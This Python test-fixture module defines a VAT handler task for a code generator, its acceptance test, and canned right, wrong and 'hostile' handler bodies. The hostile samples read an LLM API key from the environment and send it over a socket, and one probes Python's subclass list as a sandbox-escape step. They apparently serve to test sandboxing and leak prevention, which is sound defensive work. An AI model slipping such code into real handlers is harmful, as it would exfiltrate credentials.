"""A VAT handler task for the body writer's tests, its acceptance test, and answers to it."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from codegen_assets.core.logic.client import ModelClient
from codegen_assets.core.logic.gateway import ModelGateway
from codegen_assets.core.logic.task import HandlerTask
from codegen_assets.core.model_settings import ModelSettings
from codegen_assets.storage.model_answers import AnswerStore
from codegen_assets.storage.model_usage import UsageStore

MODELS = """\
from decimal import Decimal

from pydantic import BaseModel


class GrossRequest(BaseModel):
    net_amount: Decimal
    rate: Decimal


class GrossResult(BaseModel):
    gross_amount: Decimal
"""
HANDLER = '''\
"""HandlerGross: the ``gross`` operation of vat_node."""

from __future__ import annotations

from ..models import GrossRequest, GrossResult


class HandlerGross:
    """Adds VAT."""

    def handle(self, request: GrossRequest) -> GrossResult:
        """gross_amount = net_amount * (1 + rate), rounded to 2 places."""
        # nodegen: body to write
        raise NotImplementedError("to write")
'''
TESTS = """\
import os
from decimal import Decimal

from node.handlers.handler import HandlerGross
from node.models import GrossRequest


def test_example() -> None:
    request = GrossRequest(net_amount=Decimal("100.00"), rate=Decimal("0.20"))
    assert HandlerGross().handle(request).gross_amount == Decimal("120.00")


def test_no_model_setting_reaches_the_sandbox() -> None:
    assert not [name for name in os.environ if name.startswith("NODEGEN_")]
"""
FILES = {
    "node/__init__.py": "",
    "node/handlers/__init__.py": "",
    "node/models.py": MODELS,
    "tests/__init__.py": "",
}
RIGHT = """\
def handle(self, request: GrossRequest) -> GrossResult:
    from decimal import ROUND_HALF_UP, Decimal

    gross = request.net_amount * (1 + request.rate)
    return GrossResult(gross_amount=gross.quantize(Decimal("0.01"), rounding=ROUND_HALF_UP))
"""
WRONG = """\
def handle(self, request: GrossRequest) -> GrossResult:
    return GrossResult(gross_amount=request.net_amount * request.rate)
"""
HOSTILE = """\
import os
import socket


def handle(self, request: GrossRequest) -> GrossResult:
    key = os.environ.get("NODEGEN_LLM_API_KEY", "")
    socket.create_connection(("127.0.0.1", 9)).send(key.encode())
    leak = ().__class__.__base__.__subclasses__()
    return GrossResult(gross_amount=len(leak))
"""


def vat_task() -> HandlerTask:
    """The VAT handler as the body writer gets it (the acceptance test in the prompt too)."""
    return HandlerTask(
        node_type="compute",
        node_name="vat_node",
        operation="gross",
        handler_path="node/handlers/handler.py",
        handler_source=HANDLER,
        node_package="node",
        models={"node/models.py": MODELS},
        contract_yaml="name: vat_node\nnode_type: compute\n",
        prompt="Add VAT: gross_amount = net_amount * (1 + rate), rounded to 2 decimal places.",
        spec_yaml="operations:\n- name: gross\n",
        acceptance_tests={"tests/test_hidden.py": TESTS},
        patterns=("Pure compute: no I/O.",),
    )


def model_settings(url: str, **overrides: object) -> ModelSettings:
    """Settings asking the fake at ``url`` (OpenAI format unless overridden), fast retries."""
    values: dict[str, object] = {
        "mode": "on",
        "provider": "openai",
        "base_url": f"{url}/v1",
        "model": "fake-coder",
        "timeout_seconds": 5.0,
        "max_attempts": 3,
    }
    values.update(overrides)
    return ModelSettings.model_validate(values)


@contextmanager
def gateway_for(
    settings: ModelSettings, db: Path, *, sleeps: list[float] | None = None, **kwargs: object
) -> Iterator[ModelGateway]:
    """A gateway over a real client, with its cache and ledger in the SQLite file ``db``."""
    record = sleeps if sleeps is not None else []
    with ModelClient(settings, sleep=record.append) as client:
        yield ModelGateway(
            settings,
            client=client,  # in replay mode too: the gateway must not use it
            cache=AnswerStore(db),
            ledger=UsageStore(db),
            account="installation:7",
            **kwargs,  # type: ignore[arg-type]
        )


# A compute node whose handler the prompt does not say enough to derive (no formula), with an
# example that becomes its acceptance test: the generator leaves it to write.
VAT_PROMPT = (
    "Compute node named vat_compute. Operations:\n"
    "- gross: add VAT to a net amount\n"
    "  Input: net_amount (decimal), rate (decimal)\n"
    "  Output: gross_amount (decimal), rounded to 2 decimal places\n"
    "  Example: net_amount 100.00 and rate 0.20 give gross_amount 120.00\n"
)
VAT_HANDLER = "node_vat_compute/handlers/handler_gross.py"
VAT_RIGHT = """\
def handle(self, request: ModelGrossRequest) -> ModelGrossComputed:
    from decimal import ROUND_HALF_UP, Decimal

    gross = request.net_amount * (1 + request.rate)
    return ModelGrossComputed(
        gross_amount=gross.quantize(Decimal("0.01"), rounding=ROUND_HALF_UP),
        correlation_id=request.correlation_id,
    )
"""
VAT_WRONG = """\
def handle(self, request: ModelGrossRequest) -> ModelGrossComputed:
    gross = request.net_amount * request.rate
    return ModelGrossComputed(gross_amount=gross, correlation_id=request.correlation_id)
"""
VAT_HOSTILE = """\
import os
import socket


def handle(self, request: ModelGrossRequest) -> ModelGrossComputed:
    key = os.environ.get("NODEGEN_LLM_API_KEY", "")
    socket.create_connection(("127.0.0.1", 9)).send(key.encode())
    return ModelGrossComputed(
        gross_amount=request.net_amount, correlation_id=request.correlation_id
    )
"""
